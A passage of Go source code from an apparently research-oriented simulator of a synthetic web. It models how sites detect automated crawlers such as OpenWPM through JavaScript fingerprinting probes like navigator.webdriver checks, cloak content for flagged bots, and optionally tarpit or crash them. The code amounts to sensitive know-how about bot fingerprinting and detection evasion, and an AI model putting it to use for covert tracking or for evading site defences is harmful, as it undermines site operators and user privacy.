    render(5);
    document.cookie = "sessid=s" + Math.floor(Math.random() * 100000000);
    window.__app = state;
}());`, domain)
}

// firstPartyDetectorJS is the embedded commercial bot-defence script.
// Content is provider-specific but site-independent, so the Appendix-A
// content-hash clustering works.
func firstPartyDetectorJS(provider string) string {
	probe := `
    var score = 0;
    if (navigator.webdriver === true) { score += 10; }
    if (screen.availTop === 0 && screen.availLeft === 0) { score += 2; }
    if (window.innerWidth === 1366 && window.innerHeight === 683) { score += 3; }
    var ua = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "userAgent");
    if (ua !== undefined && ua.get.toString().indexOf("[native code]") < 0) { score += 10; }
    if (score >= 5) {
        navigator.sendBeacon("/__botflag", "` + provider + `:" + score);
    }`
	return "(function () { /* " + provider + " bot manager */" + probe + "\n}());"
}

func sanitizeIdent(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
			return r
		}
		return '_'
	}, s)
}

// firstPartyDetectorPath gives the provider-characteristic URL path
// (Table 12).
func firstPartyDetectorPath(provider string, h uint64) string {
	switch provider {
	case "Akamai":
		return fmt.Sprintf("/akam/11/%08x", uint32(h))
	case "Incapsula":
		return fmt.Sprintf("/_Incapsula_Resource?SWJIYLWA=%08x", uint32(h))
	case "Cloudflare":
		return "/cdn-cgi/bm/cv/2172558837/api.js"
	case "PerimeterX":
		return fmt.Sprintf("/%08x/init.js", uint32(h))
	case "Unknown":
		dirs := []string{"assets", "resources", "public", "static"}
		return fmt.Sprintf("/%s/%08x%08x%08x%08x", dirs[h%4], uint32(h), uint32(h>>13), uint32(h>>27), uint32(h>>41))
	default: // Custom one-off deployments
		return "/js/guard.js"
	}
}

// pageHTML renders a site page. subpage < 0 means the front page.
func pageHTML(s *Site, seed int64, subpage int, cloaked bool) string {
	var b strings.Builder
	h := fnv(seed, s.Rank, "page", subpage)
	base := "https://www." + s.Domain
	b.WriteString("<html><head>\n")
	b.WriteString(`<link rel="stylesheet" href="/style.css">` + "\n")
	if s.HasFont {
		b.WriteString(`<link rel="preload" as="font" href="https://fontlib.example/face.woff2">` + "\n")
	}

	// the site's own application + analytics
	b.WriteString(`<script src="/app.js"></script>` + "\n")
	b.WriteString(`<script src="/analytics.js"></script>` + "\n")

	// CSP-violating inline script (deployment bug on some CSP sites)
	if s.CSPInlineBug {
		b.WriteString("<script>window.__inlineInit = 1;</script>\n")
	}

	// first-party detector
	if s.FirstParty != "" {
		b.WriteString(fmt.Sprintf(`<script src="%s"></script>`+"\n", firstPartyDetectorPath(s.FirstParty, fnv(seed, s.Rank, "fppath"))))
	}

	// third-party detectors (front page, or subpage when SubDetector)
	showDetectors := (subpage < 0 && s.FrontDetector) || (subpage >= 0 && s.SubDetector)
	if showDetectors {
		for _, host := range s.ThirdPartyHosts {
			b.WriteString(fmt.Sprintf(`<script src="https://%s/tag.js"></script>`+"\n", host))
		}
	}
	if s.OpenWPMHost != "" && subpage < 0 {
		path := "/cz.js"
		switch s.OpenWPMHost {
		case HostGoogleSynd:
			path = "/recaptcha/releases/enforcement.js"
		case HostGoogle:
			path = "/recaptcha/api2/bframe.js"
		case HostAdzouk:
			path = "/t/adz.js"
		}
		b.WriteString(fmt.Sprintf(`<script src="https://%s%s"></script>`+"\n", s.OpenWPMHost, path))
	}

	// benign false-positive script / iterator fingerprinter
	if s.BenignWebdriver && subpage < 0 {
		b.WriteString(`<script src="/vendor.js"></script>` + "\n")
	}
	if s.Fingerprinter && subpage < 0 {
		b.WriteString(`<script src="/fp.js"></script>` + "\n")
	}

	b.WriteString("</head><body>\n")

	// ad-viewability measurement on sites carrying ad iframes
	if s.NumAdIframes > 0 {
		mhost := "adsafeprotected.com"
		if h%2 == 0 {
			mhost = "moatads.com"
		}
		b.WriteString(fmt.Sprintf(`<script src="https://%s/measure.js"></script>`+"\n", mhost))
	}

	// tracker tags: always delivered — cloaking shows up in what the
	// trackers themselves serve (cookies, sync payloads), not in the tags
	for i := 0; i < s.NumTrackerTags; i++ {
		host := trackerHosts[(h>>uint(i*4))%uint64(len(trackerHosts))]
		b.WriteString(fmt.Sprintf(`<script src="https://%s/t.js"></script>`+"\n", host))
	}

	// images: cloaked bots lose one personalised slot
	imgs := s.NumImages
	if cloaked && imgs > 2 && h%4 == 0 {
		imgs--
	}
	for i := 0; i < imgs; i++ {
		b.WriteString(fmt.Sprintf(`<img src="/img%d.png">`+"\n", i))
	}
	if h%3 == 0 {
		b.WriteString(`<img srcset="/hero-1x.png 1x, /hero-2x.png 2x">` + "\n")
	}

	// ad iframes: a minority of cloaking sites drop one ad slot for bots
	ads := s.NumAdIframes
	if cloaked && ads > 0 && h%10 < 3 {
		ads--
	}
	for i := 0; i < ads; i++ {
		host := adHosts[(h>>uint(8+i*4))%uint64(len(adHosts))]
		b.WriteString(fmt.Sprintf(`<iframe src="https://%s/frame%d"></iframe>`+"\n", host, i))
	}

	// media
	if s.NumMedia > 0 {
		b.WriteString(`<video src="/clip.mp4"></video>` + "\n")
	}

	// subpage links from the front page
	if subpage < 0 {
		for i := 0; i < s.NumSubpages; i++ {
			b.WriteString(fmt.Sprintf(`<a href="%s/page/%d">more</a>`+"\n", base, i))
		}
		// a couple of off-site links (never selected as subpages)
		b.WriteString(fmt.Sprintf(`<a href="https://www.%s/">partner</a>`+"\n", SiteDomain(s.Rank%1000+1)))
	}
	b.WriteString("</body></html>\n")
	return b.String()
}
