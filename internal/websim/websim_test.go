package websim

import (
	"reflect"
	"strings"
	"testing"

	"gullible/internal/browser"
	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
)

func TestSiteGenerationDeterministic(t *testing.T) {
	a := GenerateSite(7, 1234)
	b := GenerateSite(7, 1234)
	if !reflect.DeepEqual(a, b) {
		t.Error("site generation not deterministic")
	}
	_ = GenerateSite(8, 1234) // different seed must not panic
}

// TestCalibration checks the assignment rates over the full 100K ranks
// against the paper's Sec. 4 totals (shape, with tolerance).
func TestCalibration(t *testing.T) {
	const n = 100000
	var front, sub, union, openwpm, benign, iter, firstParty int
	var staticVisible, dynamicVisible int
	cz, gs, gg, adz := 0, 0, 0, 0
	for rank := 1; rank <= n; rank++ {
		s := GenerateSite(42, rank)
		det := s.FrontDetector || s.SubDetector
		if s.FrontDetector {
			front++
		}
		if s.SubDetector && !s.FrontDetector {
			sub++
		}
		if det {
			union++
			if s.Visibility != VisDynamicOnly {
				staticVisible++
			}
			if s.Visibility != VisStaticOnly {
				dynamicVisible++
			}
			if s.FirstParty != "" {
				firstParty++
			}
		}
		if s.BenignWebdriver {
			benign++
		}
		if s.Fingerprinter {
			iter++
		}
		switch s.OpenWPMHost {
		case HostCheqzone:
			cz++
		case HostGoogleSynd:
			gs++
		case HostGoogle:
			gg++
		case HostAdzouk:
			adz++
		}
		if s.OpenWPMHost != "" {
			openwpm++
		}
	}
	within := func(name string, got, want, tolPct int) {
		t.Helper()
		lo := want - want*tolPct/100
		hi := want + want*tolPct/100
		if got < lo || got > hi {
			t.Errorf("%s = %d, want %d ± %d%%", name, got, want, tolPct)
		}
	}
	// Table 5 / Sec. 4.2 calibration targets
	within("front-page detector sites", front, 14000, 15)
	within("union detector sites", union, 18700, 15)
	within("subpage-only detector sites", sub, 4700, 25)
	within("static-visible detector sites", staticVisible, 15900, 15)
	within("dynamic-visible detector sites", dynamicVisible, 16400, 15)
	within("benign webdriver mentions", benign, 16800, 15)
	within("iterator fingerprinters", iter, 2360, 25)
	within("first-party detector sites", firstParty, 3867, 25)
	// Table 6: exact-ish slot counts
	within("OpenWPM-specific sites", openwpm, 356, 20)
	if cz < 250 || cz > 420 {
		t.Errorf("cheqzone sites = %d, want ≈ 331", cz)
	}
	if gs == 0 || gg == 0 {
		t.Errorf("googlesyndication/google sites = %d/%d, want > 0", gs, gg)
	}
	_ = adz // 2 expected; may round to 0–5
}

func TestWorldServesConsistentContent(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 1000})
	req := &httpsim.Request{URL: SiteURL(1), Type: httpsim.TypeMainFrame, ClientID: "c1", TopURL: SiteURL(1)}
	r1, err := w.RoundTrip(req)
	if err != nil || r1.Status != 200 {
		t.Fatalf("front page: %v %v", r1, err)
	}
	r2, _ := w.RoundTrip(req)
	if r1.Body != r2.Body {
		t.Error("front page not deterministic")
	}
	if !strings.Contains(r1.Body, "/app.js") {
		t.Error("page missing app script")
	}
}

func newCrawler(w *World, clientID string, automation bool) *browser.Browser {
	cfg := jsdom.StandardConfig(jsdom.Ubuntu, jsdom.Regular, 90, 0)
	if !automation {
		cfg = jsdom.BaselineConfig(jsdom.Ubuntu, 90)
	}
	return browser.New(browser.Options{
		Config: cfg, Transport: w, ClientID: clientID, DwellSeconds: 2,
	})
}

// findDetectorSite returns the rank of a cloaking site with a plain
// front-page detector and a first-party tracking cookie.
func findDetectorSite(t *testing.T, w *World, n int) int {
	t.Helper()
	for rank := 1; rank <= n; rank++ {
		s := w.Site(rank)
		if s.FrontDetector && s.Visibility == VisBoth && s.Cloaks && s.CloakThreshold == 1 &&
			s.HasFirstPartyID && len(s.ThirdPartyHosts) > 0 && !s.HasCSP {
			return rank
		}
	}
	t.Fatal("no suitable detector site in range")
	return 0
}

func TestDetectorFlagsAutomationClient(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 2000})
	rank := findDetectorSite(t, w, 2000)
	bot := newCrawler(w, "bot-client", true)
	if _, err := bot.Visit(SiteURL(rank)); err != nil {
		t.Fatal(err)
	}
	if w.FlaggedCount("bot-client") == 0 {
		t.Fatal("automation client was not flagged by the detector")
	}
	// a human-profile client is not flagged
	human := newCrawler(w, "human-client", false)
	if _, err := human.Visit(SiteURL(rank)); err != nil {
		t.Fatal(err)
	}
	if w.FlaggedCount("human-client") != 0 {
		t.Errorf("human client flagged: %v", w.FlagLog)
	}
}

func TestCloakingWithholdsTrackingCookies(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 2000})
	rank := findDetectorSite(t, w, 2000)
	url := SiteURL(rank)

	// visit 1 flags the bot; visit 2 is served the cloaked variant
	bot := newCrawler(w, "bot-c", true)
	if _, err := bot.Visit(url); err != nil {
		t.Fatal(err)
	}
	bot2 := newCrawler(w, "bot-c", true) // fresh profile, same client identity
	if _, err := bot2.Visit(url); err != nil {
		t.Fatal(err)
	}
	botCookies := countTracking(bot2.Jar.All())

	human := newCrawler(w, "human-c", false)
	if _, err := human.Visit(url); err != nil {
		t.Fatal(err)
	}
	human2 := newCrawler(w, "human-c", false)
	if _, err := human2.Visit(url); err != nil {
		t.Fatal(err)
	}
	humanCookies := countTracking(human2.Jar.All())

	if botCookies >= humanCookies {
		t.Errorf("cloaking ineffective: bot tracking cookies %d, human %d", botCookies, humanCookies)
	}
}

func countTracking(recs []browser.CookieRecord) int {
	n := 0
	for _, r := range recs {
		if r.Cookie.Name == "uid" || r.Cookie.Name == "fpuid" || r.Cookie.Name == "pxid" {
			n++
		}
	}
	return n
}

func TestTrancoAndBlocklists(t *testing.T) {
	urls := Tranco(50)
	if len(urls) != 50 || urls[0] != SiteURL(1) {
		t.Fatalf("Tranco list wrong: %v", urls[:2])
	}
	el := EasyList()
	ep := EasyPrivacy()
	if !el.Match("https://moatads.com/tag.js") {
		t.Error("EasyList misses moatads")
	}
	if !ep.Match("https://pixeltrack.example/pixel.gif?uid=1") {
		t.Error("EasyPrivacy misses pixeltrack")
	}
	if el.Match(SiteURL(1) + "app.js") {
		t.Error("EasyList blocks first-party app script")
	}
	if !el.Match("https://" + longTailHost(17) + "/tag.js") {
		t.Error("EasyList misses long-tail ad host")
	}
}

func TestOpenWPMDetectorSiteServesMarkerProbe(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 100000})
	// find a cheqzone site
	var rank int
	for r := 1; r <= 100000; r++ {
		if w.Site(r).OpenWPMHost == HostCheqzone {
			rank = r
			break
		}
	}
	if rank == 0 {
		t.Fatal("no cheqzone site generated")
	}
	req := &httpsim.Request{URL: "https://" + HostCheqzone + "/cz.js", Type: httpsim.TypeScript,
		ClientID: "c", TopURL: SiteURL(rank)}
	resp, err := w.RoundTrip(req)
	if err != nil || resp.Status != 200 {
		t.Fatal(err)
	}
	if !strings.Contains(resp.Body, "jsInstruments") {
		t.Errorf("cheqzone script does not probe jsInstruments:\n%s", resp.Body)
	}
	if !strings.Contains(resp.Body, "navigator.webdriver") {
		t.Error("cheqzone script should be plainly readable (static-visible)")
	}
}

func TestSubpageLinksStaySameSite(t *testing.T) {
	w := New(Options{Seed: 42, NumSites: 1000})
	var rank int
	for r := 1; r <= 1000; r++ {
		if w.Site(r).NumSubpages > 0 {
			rank = r
			break
		}
	}
	b := newCrawler(w, "c", true)
	res, err := b.Visit(SiteURL(rank))
	if err != nil {
		t.Fatal(err)
	}
	var sameSite int
	for _, l := range res.Links {
		if httpsim.SameSite(l, res.FinalURL) {
			sameSite++
		}
	}
	if sameSite == 0 {
		t.Errorf("no same-site links found in %v", res.Links)
	}
}
