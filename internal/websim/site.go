package websim

import "fmt"

// DetectorVisibility describes how a detector script can be found by the
// two analysis methods (Sec. 4.1.1): plain scripts are found by both;
// hover-gated detection is visible to static analysis only (the code never
// executes); concatenation-obfuscated or dynamically generated code is
// visible to dynamic analysis only.
type DetectorVisibility int

// Visibility classes.
const (
	VisBoth DetectorVisibility = iota
	VisStaticOnly
	VisDynamicOnly
)

// Site is the deterministic description of one ranked site.
type Site struct {
	Rank     int
	Domain   string
	Category string

	NumSubpages int

	// Detector deployment.
	FrontDetector   bool
	SubDetector     bool // detector present on subpages (possibly only there)
	Visibility      DetectorVisibility
	FirstParty      string   // provider name, "" when none
	ThirdPartyHosts []string // detector-hosting third-party domains included
	OpenWPMHost     string   // OpenWPM-specific detector provider, "" when none
	OpenWPMMarker   string   // which marker property the detector probes
	BenignWebdriver bool     // a benign script mentioning "webdriver" (static FP)
	Fingerprinter   bool     // property-iterating fingerprinter (inconclusive)

	// Page composition.
	HasCSP          bool
	CSPInlineBug    bool // site's own inline script violates its CSP
	NumImages       int
	NumAdIframes    int
	NumTrackerTags  int
	NumMedia        int
	HasFont         bool
	HasFirstPartyID bool // sets a first-party tracking cookie

	// Cloaking: what the site withholds from flagged bots. CloakThreshold
	// is how many detections (≈ visits) it takes before the site starts
	// tailoring responses — commercial scoring systems rarely act on the
	// first signal, which is what makes the paper's measured differences
	// grow from run to run (Table 10).
	Cloaks         bool
	CloakThreshold int // 1–3

	// Availability is the site's counter-attack on a flagged crawler:
	// instead of (only) tailoring content, some cloaking sites degrade the
	// framework's availability — tarpitting every response or crashing the
	// visiting browser (an extension of the Sec. 5 attack family).
	Availability AvailabilityAttack
}

// AvailabilityAttack enumerates availability counter-attacks served to
// flagged bots.
type AvailabilityAttack int

// Availability attack kinds.
const (
	AttackNone   AvailabilityAttack = iota
	AttackTarpit                    // responses slow to a crawl
	AttackCrash                     // a resource kills the visiting browser
)

// HasAnyDetector reports whether any detector runs on this site.
func (s *Site) HasAnyDetector() bool {
	return s.FrontDetector || s.SubDetector || s.OpenWPMHost != ""
}

// GenerateSite derives the site at 1-based rank from the world seed.
// Probabilities are calibrated to the paper's Sec. 4 totals; see DESIGN.md.
func GenerateSite(seed int64, rank int) *Site {
	s := &Site{Rank: rank, Domain: SiteDomain(rank)}
	h := func(salt string) uint64 { return fnv(seed, rank, salt) }

	// category (global weights)
	weights := make([]int, len(categories))
	for i, c := range categories {
		weights[i] = c.Weight
	}
	s.Category = categories[pickWeighted(h("cat"), weights)].Name

	// subpages: 0..5, most sites have some
	s.NumSubpages = int(h("subs") % 6)

	// --- detector deployment -------------------------------------------
	// Front-page detector rate declines with rank (Figs. 3/4): from ~22%
	// in the top ranks to ~6% at the tail, ≈14% on average. Category
	// multipliers skew News/Technology/Business toward third-party
	// detectors and Shopping/Finance/Travel toward first-party ones.
	frontPerMille := 2200 - 1600*rank/100000
	switch s.Category {
	case "News", "Technology", "Business":
		frontPerMille = frontPerMille * 13 / 10
	case "Government", "Reference":
		frontPerMille = frontPerMille / 2
	}
	s.FrontDetector = int(h("front")%10000) < frontPerMille

	// Subpage-only detectors add ≈ a third more detector sites (Fig. 3).
	subOnlyPerMille := 550
	if s.NumSubpages == 0 {
		subOnlyPerMille = 0
	}
	s.SubDetector = s.FrontDetector || int(h("subdet")%10000) < subOnlyPerMille
	if s.FrontDetector || s.SubDetector {
		// visibility split: ~72% both, ~13% static-only, ~15% dynamic-only
		switch v := h("vis") % 100; {
		case v < 72:
			s.Visibility = VisBoth
		case v < 85:
			s.Visibility = VisStaticOnly
		default:
			s.Visibility = VisDynamicOnly
		}
	}

	// First-party commercial detection (Sec. 4.3.2): ~21% of detector
	// sites, skewed by category.
	if s.FrontDetector || s.SubDetector {
		fpPerMille := 160
		switch s.Category {
		case "Shopping":
			fpPerMille = 420
		case "Finance", "Travel":
			fpPerMille = 330
		case "News":
			fpPerMille = 60
		}
		if int(h("fp")%1000) < fpPerMille {
			switch v := h("fpprov") % 1000; {
			case v < 260:
				s.FirstParty = "Akamai"
			case v < 518:
				s.FirstParty = "Incapsula"
			case v < 688:
				s.FirstParty = "Unknown"
			case v < 814:
				s.FirstParty = "Cloudflare"
			case v < 849:
				s.FirstParty = "PerimeterX"
			default:
				s.FirstParty = "Custom"
			}
		}
		// Third-party detector inclusions: 1–3 hosts, Table 7 weights.
		n := 1 + int(h("tpn")%100)/55 + int(h("tpn2")%100)/85 // mostly 1, some 2–3
		for i := 0; i < n; i++ {
			s.ThirdPartyHosts = append(s.ThirdPartyHosts, pickThirdPartyHost(h(fmt.Sprintf("tp%d", i))))
		}
	}

	// OpenWPM-specific detectors: 356 sites in the Top-100K (Table 6).
	// Deterministic slots spread across ranks.
	switch v := h("owpm") % 100000; {
	case v < 331:
		s.OpenWPMHost = HostCheqzone
		s.OpenWPMMarker = "jsInstruments"
	case v < 345: // 14 googlesyndication sites
		s.OpenWPMHost = HostGoogleSynd
		switch h("owpmmark") % 14 {
		case 0, 1, 2, 3, 4:
			s.OpenWPMMarker = "jsInstruments"
		case 5, 6, 7, 8, 9, 10:
			s.OpenWPMMarker = "instrumentFingerprintingApis"
		default:
			s.OpenWPMMarker = "getInstrumentJS"
		}
	case v < 354: // 9 google.com sites
		s.OpenWPMHost = HostGoogle
		switch h("owpmmark") % 9 {
		case 0, 1:
			s.OpenWPMMarker = "jsInstruments"
		case 2, 3, 4, 5:
			s.OpenWPMMarker = "instrumentFingerprintingApis"
		default:
			s.OpenWPMMarker = "getInstrumentJS"
		}
	case v < 356: // 2 adzouk1tag sites
		s.OpenWPMHost = HostAdzouk
		s.OpenWPMMarker = "jsInstruments"
	}

	// Benign "webdriver" mentions: the naive static pattern's false
	// positives (Table 5: raw 32,694 vs clean 15,838). Only on sites whose
	// detectors would not already flag statically.
	if !(s.HasAnyDetector() && s.Visibility != VisDynamicOnly) {
		s.BenignWebdriver = int(h("benign")%1000) < 200
	}

	// Property-iterating fingerprinters: the dynamic method's
	// 'inconclusive' bucket (Table 5: raw 19,139 vs clean 16,762).
	if !s.HasAnyDetector() {
		s.Fingerprinter = int(h("iter")%1000) < 29
	}

	// --- page composition -----------------------------------------------
	// CSP adoption ≈8%; the paper observed vanilla OpenWPM failing to
	// install its hooks on 113 of 1,487 detector sites (7.6%) for exactly
	// this reason.
	s.HasCSP = int(h("csp")%1000) < 80
	s.CSPInlineBug = s.HasCSP && int(h("cspbug")%100) < 25
	s.NumImages = 2 + int(h("img")%5)
	s.NumAdIframes = int(h("adif") % 3)
	s.NumTrackerTags = 1 + int(h("trk")%3)
	s.NumMedia = 0
	if h("media")%100 < 12 {
		s.NumMedia = 1
	}
	s.HasFont = h("font")%100 < 55
	s.HasFirstPartyID = h("fpid")%100 < 60

	// Sites with detectors cloak; commercial first-party deployments
	// almost always tailor responses (Sec. 4.3.2).
	s.Cloaks = s.HasAnyDetector() && (s.FirstParty != "" || h("cloak")%100 < 70)
	// most cloaking sites act on the first detection; the rest need repeat
	// visits, which makes the measured differences grow per run
	switch v := h("cloakthr") % 10; {
	case v < 6:
		s.CloakThreshold = 1
	case v < 9:
		s.CloakThreshold = 2
	default:
		s.CloakThreshold = 3
	}
	// A minority of cloaking sites fight back on availability once the
	// client is flagged: ~6% tarpit, ~4% crash the browser.
	if s.Cloaks {
		switch v := h("avail") % 100; {
		case v < 6:
			s.Availability = AttackTarpit
		case v < 10:
			s.Availability = AttackCrash
		}
	}
	return s
}

func pickThirdPartyHost(h uint64) string {
	// 29.1% long tail, rest per Table 7 weights
	if int(h%1000) < 291 {
		return longTailHost(int(h / 1000))
	}
	weights := make([]int, len(thirdPartyHosts))
	for i, t := range thirdPartyHosts {
		weights[i] = t.Weight
	}
	return thirdPartyHosts[pickWeighted(h/7, weights)].Host
}
