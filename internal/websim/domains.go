// Package websim generates a deterministic synthetic web standing in for the
// Tranco Top-100K of the paper's measurement: ranked sites with categories,
// subpages, ad/tracker third parties, bot detectors (generic Selenium
// detectors, OpenWPM-specific detectors, and commercial first-party
// detectors), Content Security Policies, cookies, and server-side cloaking
// for clients that were detected as bots. All content is a pure function of
// (seed, rank); only the per-client detection state is mutable.
package websim

import (
	"fmt"

	"gullible/internal/blocklist"
)

// Third-party detector hosting domains with Table 7 inclusion weights
// (per mille of third-party inclusions).
var thirdPartyHosts = []struct {
	Host    string
	Weight  int // ‰ of inclusions
	Purpose string
}{
	{"yandex.ru", 180, "advertising/analytics"},
	{"adsafeprotected.com", 108, "advertising"},
	{"moatads.com", 102, "advertising"},
	{"webgains.io", 98, "advertising"},
	{"crazyegg.com", 73, "analytics"},
	{"intercomcdn.com", 50, "live chat"},
	{"teads.tv", 40, "advertising"},
	{"jsdelivr.net", 20, "cdn"},
	{"mxcdn.net", 20, "advertising"},
	{"mgid.com", 19, "advertising"},
}

// longTailHostCount approximates the paper's "remaining 704 domains".
const longTailHostCount = 704

// longTailHost names the i-th long-tail detector host.
func longTailHost(i int) string { return fmt.Sprintf("adnet%03d.example", i%longTailHostCount) }

// OpenWPM-specific detector providers (Table 6).
const (
	HostCheqzone   = "cheqzone.com"
	HostGoogleSynd = "googlesyndication.com"
	HostGoogle     = "google.com"
	HostAdzouk     = "adzouk1tag.com"
)

// Ad/tracker infrastructure that is NOT bot-detecting (classified only by
// the blocklists).
var adHosts = []string{
	"bannerfarm.example", "adserve1.example", "adserve2.example",
	"popmedia.example", "clickbid.example",
}

var trackerHosts = []string{
	"pixeltrack.example", "statcount.example", "audiencesync.example",
	"metricsbeacon.example",
}

var cdnHosts = []string{"sitecdn.example", "fontlib.example"}

// EasyList returns the synthetic EasyList: ad-serving domains and URL
// patterns, mirroring how the paper classifies ad requests (Sec. 6.3.2).
func EasyList() *blocklist.List {
	lines := []string{
		"! synthetic EasyList for the simulated web",
		"||adsafeprotected.com^", "||moatads.com^", "||webgains.io^",
		"||teads.tv^", "||mxcdn.net^", "||mgid.com^", "||adzouk1tag.com^",
		"||googlesyndication.com^",
		"||bannerfarm.example^", "||adserve1.example^", "||adserve2.example^",
		"||popmedia.example^", "||clickbid.example^",
		"/adframe.", "/banner/", "/ads/unit",
	}
	for i := 0; i < longTailHostCount; i++ {
		lines = append(lines, "||"+longTailHost(i)+"^")
	}
	return blocklist.Parse("EasyList", lines)
}

// EasyPrivacy returns the synthetic EasyPrivacy: tracking and analytics.
func EasyPrivacy() *blocklist.List {
	return blocklist.Parse("EasyPrivacy", []string{
		"! synthetic EasyPrivacy for the simulated web",
		"||pixeltrack.example^", "||statcount.example^",
		"||audiencesync.example^", "||metricsbeacon.example^",
		"||crazyegg.com^", "||yandex.ru/metrika",
		"/pixel.gif", "/sync?", "/beacon?",
	})
}

// Categories with global weights (per mille); Fig. 5's conditioning happens
// in site generation.
var categories = []struct {
	Name   string
	Weight int
}{
	{"News", 120}, {"Shopping", 100}, {"Technology", 90}, {"Business", 80},
	{"Entertainment", 70}, {"Finance", 60}, {"Travel", 50}, {"Sports", 50},
	{"Education", 50}, {"Health", 50}, {"Games", 50}, {"Social", 40},
	{"Reference", 40}, {"Food", 40}, {"Government", 30}, {"Adult", 30},
	{"Other", 50},
}

// tlds gives the synthetic web some registrable-domain variety.
var tlds = []string{".com", ".net", ".org", ".io", ".de", ".co.uk", ".fr", ".com.br"}

// SiteDomain is the registrable domain of the site at 1-based rank.
func SiteDomain(rank int) string {
	return fmt.Sprintf("site%06d%s", rank, tlds[rank%len(tlds)])
}

// SiteURL is the front-page URL of the site at rank.
func SiteURL(rank int) string { return "https://www." + SiteDomain(rank) + "/" }

// Tranco returns the ranked front-page URL list (ranks 1..n), the stand-in
// for the Tranco Top-100K.
func Tranco(n int) []string {
	out := make([]string, n)
	for i := 0; i < n; i++ {
		out[i] = SiteURL(i + 1)
	}
	return out
}

// fnv hashes the parts into a stable 64-bit value; all site attributes
// derive from it.
func fnv(parts ...any) uint64 {
	h := uint64(14695981039346656037)
	mix := func(s string) {
		for i := 0; i < len(s); i++ {
			h = (h ^ uint64(s[i])) * 1099511628211
		}
		h = (h ^ 0x1f) * 1099511628211
	}
	for _, p := range parts {
		mix(fmt.Sprint(p))
	}
	return h
}

// pick selects an index from per-mille weights using hash h.
func pickWeighted(h uint64, weights []int) int {
	total := 0
	for _, w := range weights {
		total += w
	}
	x := int(h % uint64(total))
	for i, w := range weights {
		if x < w {
			return i
		}
		x -= w
	}
	return len(weights) - 1
}
