package websim

import (
	"fmt"
	"strings"
	"sync"

	"gullible/internal/faults"
	"gullible/internal/httpsim"
)

// Options configures a World.
type Options struct {
	Seed     int64
	NumSites int
	// AvailabilityAttacks arms the cloaking sites' availability
	// counter-attacks (tarpits, browser crashes) against flagged clients.
	// Off by default: the attacks extend the paper's attack family, and the
	// Sec. 4 reproduction scans must not be perturbed by them.
	AvailabilityAttacks bool
}

// World serves the synthetic web. It implements httpsim.RoundTripper and is
// safe for concurrent use. Site content is a pure function of (Seed, rank);
// the only mutable state is which clients each site has flagged as bots —
// that state persists across visits and runs, which is what lets flagged
// crawlers be re-identified in later runs (Sec. 6.3.3).
type World struct {
	Opts Options

	mu sync.Mutex
	// flagCounts tracks, per client and site context, how many visits have
	// triggered a detection; sites start cloaking once their
	// CloakThreshold is reached, so the effect compounds over repeated
	// crawls (the paper's per-run growth, Sec. 6.3.3).
	flagCounts map[string]map[string]int
	// flaggedThisVisit marks detections of the current visit; they fold
	// into flagCounts at the next main_frame load.
	flaggedThisVisit map[string]map[string]bool
	// FlagLog records every bot-flag event for inspection.
	FlagLog []FlagEvent

	siteMu    sync.Mutex
	siteCache map[int]*Site
}

// FlagEvent is one server-side bot detection.
type FlagEvent struct {
	ClientID string
	Site     string // eTLD+1 of the flagged site context
	Detector string // host or provider that reported
	Signals  string
}

// New creates a world.
func New(opts Options) *World {
	if opts.NumSites == 0 {
		opts.NumSites = 100000
	}
	return &World{
		Opts:             opts,
		flagCounts:       map[string]map[string]int{},
		flaggedThisVisit: map[string]map[string]bool{},
		siteCache:        map[int]*Site{},
	}
}

// Site returns the generated site at 1-based rank.
func (w *World) Site(rank int) *Site {
	w.siteMu.Lock()
	defer w.siteMu.Unlock()
	if s, ok := w.siteCache[rank]; ok {
		return s
	}
	s := GenerateSite(w.Opts.Seed, rank)
	if len(w.siteCache) < 200000 {
		w.siteCache[rank] = s
	}
	return s
}

// rankOf parses a site host back to its rank, or 0.
func rankOf(host string) int {
	host = strings.TrimPrefix(host, "www.")
	if !strings.HasPrefix(host, "site") || len(host) < 10 {
		return 0
	}
	n := 0
	for i := 4; i < 10; i++ {
		c := host[i]
		if c < '0' || c > '9' {
			return 0
		}
		n = n*10 + int(c-'0')
	}
	return n
}

// RankOf parses a site host back to its 1-based rank, or 0 for non-ranked
// hosts. Fault injectors use it to pick per-rank-bucket fault profiles.
func RankOf(host string) int { return rankOf(host) }

// flagLevel returns the client's detection level for a site context: the
// number of past flagged visits plus one if the current visit already
// triggered a detection.
func (w *World) flagLevel(clientID, site string) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	level := w.flagCounts[clientID][site]
	if w.flaggedThisVisit[clientID][site] {
		level++
	}
	return level
}

// flag records a bot detection in a site context.
func (w *World) flag(clientID, site, detector, signals string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	m := w.flaggedThisVisit[clientID]
	if m == nil {
		m = map[string]bool{}
		w.flaggedThisVisit[clientID] = m
	}
	m[site] = true
	w.FlagLog = append(w.FlagLog, FlagEvent{ClientID: clientID, Site: site, Detector: detector, Signals: signals})
}

// beginVisit folds the previous visit's detections into the persistent
// counts; called on every main_frame load.
func (w *World) beginVisit(clientID, site string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.flaggedThisVisit[clientID][site] {
		if w.flagCounts[clientID] == nil {
			w.flagCounts[clientID] = map[string]int{}
		}
		w.flagCounts[clientID][site]++
		delete(w.flaggedThisVisit[clientID], site)
	}
}

// FlaggedCount reports how many site contexts have detected the client.
func (w *World) FlaggedCount(clientID string) int {
	w.mu.Lock()
	defer w.mu.Unlock()
	set := map[string]bool{}
	for s := range w.flagCounts[clientID] {
		set[s] = true
	}
	for s, on := range w.flaggedThisVisit[clientID] {
		if on {
			set[s] = true
		}
	}
	return len(set)
}

// RoundTrip implements httpsim.RoundTripper.
func (w *World) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	host := httpsim.Host(req.URL)
	path := httpsim.Path(req.URL)
	topSite := httpsim.ETLDPlusOne(httpsim.Host(req.TopURL))
	cloaked := w.cloakedFor(req, topSite)

	if rank := rankOf(host); rank >= 1 && rank <= w.Opts.NumSites {
		return w.serveSite(req, rank, path, cloaked)
	}

	switch {
	case host == HostCheqzone || host == HostGoogleSynd || host == HostGoogle || host == HostAdzouk:
		return w.serveOpenWPMDetector(req, host, path, topSite)
